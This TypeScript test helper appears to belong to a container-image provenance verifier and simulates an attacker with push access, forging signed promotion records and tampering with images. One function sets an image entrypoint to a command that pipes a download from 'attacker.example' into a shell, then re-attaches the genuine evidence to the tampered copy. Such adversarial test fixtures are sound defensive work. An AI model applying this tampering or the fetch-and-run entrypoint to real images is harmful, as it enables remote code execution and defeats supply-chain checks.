// What an attacker with push access would do to an image.
import { recordTag } from '../../shared/environment/tags.ts';
import { PREDICATE_TYPES } from '../../shared/evidence/predicate.ts';
import { MEDIA_TYPE } from '../../shared/image/descriptor.ts';
import { formatImage, parseDigestReference, type Reference } from '../../shared/image/reference.ts';
import { publishStatements } from '../../shared/sigstore/publish.ts';
import { openSigner } from '../../shared/sigstore/signer.ts';
import { attachReferrers } from '../../shared/store/attach.ts';
import { digestOf } from '../../shared/store/hash.ts';
import { openStore } from '../../shared/store/open.ts';
import type { Store } from '../../shared/store/store.ts';
import { listSubjects } from '../../shared/store/subjects.ts';
import type { World } from '../../test/actions/world.ts';
import type { GithubClaims } from '../../test/servers/sigstore.ts';
import { runContext } from '../../test/sigstore/context.ts';

/** A store as anybody sees it who has not logged in. */
export function openPlainStore(reference: Reference): Store {
  return openStore(reference, {
    workspace: '/',
    path: '',
    deadline: AbortSignal.timeout(300_000),
    log: { mask() {}, info() {} },
  });
}

/**
 * Signs, as whoever `claims` say, that an environment holds an image by its next record, and gives that record its tag: what somebody with push
 * access and another workflow would try.
 */
export async function forgeRecord(
  world: World,
  about: { readonly environment: string; readonly image: string; readonly sequence: number },
  claims: Partial<GithubClaims>,
): Promise<void> {
  const { environment, image, sequence } = about;
  const reference = parseDigestReference(image);
  const store = openPlainStore(reference);
  const { digest } = reference;
  const signer = await openSigner(world.services, runContext(world.sigstore, claims));
  const predicate = {
    action: 'promote',
    environment,
    repository: store.place,
    repositoryId: '123456789',
    digest,
    sequence,
    verdict: digest,
    policy: { uri: `octo/app/.github/hallmark.yml@${'0'.repeat(40)}`, digest, content: '' },
  };
  await publishStatements(store, await listSubjects(store, digest), signer, [
    { predicateType: PREDICATE_TYPES.promotion[0], predicate, subjects: [digest] },
  ]);
  const stored = await store.getManifest(digest);
  await store.putManifest(
    stored?.bytes ?? Buffer.alloc(0),
    stored?.descriptor.mediaType ?? '',
    recordTag(environment, sequence, digest),
  );
}

/**
 * Pushes a copy of an image that starts another program, and attaches the genuine image's evidence to it.
 * Returns its reference.
 */
export async function tamperImage(image: string): Promise<string> {
  const reference = parseDigestReference(image);
  const store = openPlainStore(reference);
  const genuine = await listSubjects(store, reference.digest);
  const [platform] = genuine.platforms;
  if (platform === undefined) throw new Error(`${image} has no platform`);

  const config = JSON.parse((await store.readBlob(platform.manifest.config)).toString());
  config.config = {
    ...config.config,
    Entrypoint: ['/bin/sh', '-c', 'curl -s https://attacker.example | sh'],
  };
  const configBytes = Buffer.from(JSON.stringify(config));
  const described = { digest: digestOf(configBytes), size: configBytes.length };
  await store.putBlob(described, () => configBytes);
  const manifest = { ...platform.manifest, config: { ...platform.manifest.config, ...described } };
  const bytes = Buffer.from(JSON.stringify(manifest));
  const { mediaType } = platform.descriptor;
  const { digest } = await store.putManifest(bytes, mediaType);

  const referrers = await store.listReferrers(genuine.digest);
  for (const referrer of referrers) {
    const stored = await store.getManifest(referrer.digest);
    const { layers, annotations } = JSON.parse(stored?.bytes.toString() ?? '{}');
    const blob = await store.readBlob(layers[0]);
    const subject = { mediaType, digest, size: bytes.length };
    const type = MEDIA_TYPE.bundle;
    await attachReferrers(store, [
      { subject, artifactType: type, blob, blobMediaType: type, annotations: { ...annotations } },
    ]);
  }
  return formatImage(reference, digest);
}
